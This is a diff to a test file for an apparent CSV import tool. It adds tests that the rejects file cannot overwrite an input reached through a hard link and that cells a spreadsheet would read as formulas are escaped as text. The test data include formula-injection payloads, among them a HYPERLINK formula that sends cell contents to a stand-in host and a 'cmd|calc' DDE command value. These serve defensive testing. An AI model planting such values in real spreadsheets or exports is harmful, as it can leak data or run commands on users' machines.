@@ -1,4 +1,4 @@
-import { readFileSync, symlinkSync } from 'node:fs'
+import { linkSync, readFileSync, symlinkSync } from 'node:fs'
 import { join } from 'node:path'
 import { expect, it } from 'vitest'
 import { temporaryFiles } from '../../../tests/temporary-files.ts'
@@ -27,12 +27,43 @@ it('never overwrites a file that is being imported, under whatever name', async 
   const source = files.write('sold.csv', 'precious')
   const link = join(files.folder, 'link.csv')
   symlinkSync(source, link)
-  for (const path of [source, link])
+  const hardLink = join(files.folder, 'hard-link.csv')
+  linkSync(source, hardLink)
+  for (const path of [source, link, hardLink])
     expect(await openRejectsFile(path, [source])).toEqual({
       ok: false,
       error: `--rejects ${path} is one of the files to import; name another file.`,
     })
   expect(readFileSync(source, 'utf8')).toBe('precious')
+})
+
+it('replaces the rejects of an earlier import', async () => {
+  const path = files.write('earlier.csv', 'old rows, many of them: '.repeat(20))
+  const opened = await openRejectsFile(path, [files.write('input.csv', 'PRICE')])
+  if (!opened.ok) throw new Error(opened.error)
+  await opened.value.close()
+  expect(readFileSync(path, 'utf8')).toBe('file,line,column,value,reason\r\n')
+})
+
+it.each([
+  ['=HYPERLINK("http://a.example?"&A1)', '"\'=HYPERLINK(""http://a.example?""&A1)"'],
+  ['+1+cmd|calc', "'+1+cmd|calc"],
+  ['-2+3', "'-2+3"],
+  ['@SUM(A1)', "'@SUM(A1)"],
+  ['\t=1', "'\t=1"],
+  ['\r=1', '"\'\r=1"'],
+  ['＝1', "'＝1"],
+  ['-122.3', '-122.3'],
+  ['+1.5e3', '+1.5e3'],
+  ['a=1', 'a=1'],
+])('a cell that a spreadsheet would take for a formula is text: %j', async (value, written) => {
+  const path = join(files.folder, 'formulas.csv')
+  const opened = await openRejectsFile(path, [])
+  if (!opened.ok) throw new Error(opened.error)
+  await opened.value.write({ path: '=a.csv', line: 2, column: 'PRICE', value, reason: 'no price' })
+  await opened.value.close()
+  const [, row] = readFileSync(path, 'utf8').split('\r\n')
+  expect(row).toBe(`'=a.csv,2,PRICE,${written},no price`)
 })
 
 it('says when it cannot be written', async () => {
